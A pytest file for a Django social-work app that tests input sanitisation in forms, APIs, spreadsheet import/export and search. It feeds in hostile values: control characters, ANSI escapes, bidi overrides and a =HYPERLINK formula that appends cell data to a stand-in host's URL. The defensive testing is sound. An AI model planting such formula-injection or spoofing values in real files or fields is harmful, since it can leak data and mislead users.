"""One text rule at every edge: forms, API bodies, spreadsheet cells, search boxes, and exports of old data."""

import io
import json

import pytest
from django import forms
from openpyxl import Workbook, load_workbook

from shegong.core import xlsx_import as x
from shegong.core.excel import build_workbook
from shegong.core.text import clean_text, search_term
from shegong.orgs.models import Organisation
from shegong.people.models import SocialWorker, Volunteer
from shegong.recipients.models import Recipient
from tests.factories import VILLAGE_A1
from tests.people.helpers import make_worker, valid_id
from tests.recipients.helpers import make_recipient

from .test_xlsx_import import SPEC

pytestmark = pytest.mark.django_db

BAD_NAMES = {
    "nul": "张\x00三",
    "escape": "张\x1b[31m三",
    "rlo": "张\u202e三",
    "isolate": "张\u2066三",
    "zero-width only": "\u200b\u200c\ufeff",
}


@pytest.mark.parametrize("value", BAD_NAMES.values(), ids=BAD_NAMES.keys())
def test_clean_text_refuses_and_names_the_field(value):
    with pytest.raises(forms.ValidationError) as caught:
        clean_text(value, label="姓名", required=True)
    assert caught.value.messages[0].startswith("「姓名」")


def test_clean_text_allows_ordinary_and_long_text():
    assert clean_text("张三 O'Brien-李", required=True) == "张三 O'Brien-李"
    assert clean_text("第一行\n第二行\t缩进", multiline=True) == "第一行\n第二行\t缩进"
    with pytest.raises(forms.ValidationError):
        clean_text("第一行\n第二行")  # a single-line field
    with pytest.raises(forms.ValidationError):
        clean_text("   ", required=True)


def test_every_form_char_field_gets_the_rule():
    class Plain(forms.Form):
        name = forms.CharField(label="名称")
        note = forms.CharField(label="备注", required=False, widget=forms.Textarea)

    form = Plain({"name": "甲\u202e乙", "note": "a\nb"})
    assert not form.is_valid() and "名称" in form.errors["name"][0] and "note" not in form.errors
    assert not Plain({"name": "\u200b", "note": ""}).is_valid()
    assert Plain({"name": "甲", "note": "a\r\nb"}).is_valid()


@pytest.mark.parametrize("value", ["社工\u202e站", "社工\x1b[2J站", "\u200b\u200b"])
def test_the_organisation_form_refuses_hostile_names(world, login, client, value):
    login(world.official_a)
    response = client.post(
        "/orgs/new/",
        {"name": value, "kind": "agency", "region": world.regions["town_a"].code, "party_branch": "none"},
    )
    assert response.status_code == 200 and "名称" in response.content.decode()
    assert not Organisation.objects.filter(name=value).exists()


@pytest.mark.parametrize("value", ["社工\u202e站", "社工\x1b[31m站", "社工\x00站", "   ", "\u200b"])
def test_the_api_refuses_hostile_names(world, login, client, value):
    login(world.official_a)
    before = Organisation.objects.count()  # (PostgreSQL cannot even be asked about a name holding NUL)
    body = {"name": value, "kind": "agency", "region": world.regions["town_a"].code}
    response = client.post("/api/v1/organisations", json.dumps(body), content_type="application/json")
    assert response.status_code == 422
    assert Organisation.objects.count() == before


def test_an_import_refuses_hostile_cells():
    book = Workbook()
    book.active.append(["姓名", "身份证号"])
    book.active.append(["张\u202e三", valid_id(seq=1)])
    book.active.append(["\u200b", valid_id(seq=2)])
    book.active.append(["李四", valid_id(seq=3)])
    buffer = io.BytesIO()
    book.save(buffer)
    result = x.parse_workbook(SPEC, buffer.getvalue())
    errors = {e.cell: e.message for e in result.errors}
    assert "方向" in errors["A2"] and errors["A3"] == "必填" and "A4" not in errors


def test_export_writes_formula_like_text_as_text_and_survives_illegal_characters():
    content = build_workbook(
        "t",
        ["名称"],
        [
            ['=HYPERLINK("http://x.example/"&A1,"详情")'],
            ["-1+2"],
            ["甲\x00\x1b乙"],
            ["<b>甲&乙</b>\r\n丙\t丁"],
        ],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert (
        sheet["A2"].data_type == "s"
        and sheet["A2"].value.startswith("=HYPERLINK")
        and sheet["A2"].quotePrefix
    )
    assert sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
    assert sheet["A4"].value == "甲\ufffd\ufffd乙"
    assert sheet["A5"].value == "<b>甲&乙</b>\r\n丙\t丁"  # markup characters escaped, line breaks kept


def _stored_hostile_names(world):
    """Old data: hostile names written straight to the database, as if from before the rule (\x01 rather than
    NUL, which PostgreSQL itself refuses to store; openpyxl refuses both)."""
    town = world.regions["town_a"]
    worker = make_worker(town, name="旧社工", seq=7)
    volunteer = Volunteer.objects.create(region=town, name="旧志愿者", id_number=valid_id(seq=8))
    recipient = make_recipient(VILLAGE_A1, name="旧对象")
    SocialWorker.objects.filter(pk=worker.pk).update(name="社\x01工\x1b[31m")
    Volunteer.objects.filter(pk=volunteer.pk).update(name='=HYPERLINK("http://x.example/"&A1,"详情")')
    Recipient.objects.filter(pk=recipient.pk).update(name="对\x1b[2J象\x01")
    Organisation.objects.filter(pk=world.org_a.pk).update(name="机\x01构")


def test_exports_answer_with_old_hostile_names(world, login, client):
    _stored_hostile_names(world)
    login(world.official_a)
    for url in (
        "/recipients/export/",
        "/people/workers/export/",
        "/people/volunteers/export/",
        "/orgs/export/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        sheet = load_workbook(io.BytesIO(response.content)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)


@pytest.mark.parametrize("path", ["/recipients/", "/orgs/", "/network/", "/people/volunteers/", "/regions/"])
def test_a_nul_in_a_search_box_is_dropped(world, login, client, path):
    login(world.official_a)
    response = client.get(path, {"q": "甲\x00\x1b"})
    assert response.status_code == 200
    assert client.get("/api/v1/organisations", {"q": "\x00"}).status_code == 200


def test_search_term():
    assert search_term(" 张\x00三\u202e ") == "张三"
    assert search_term(None) == ""
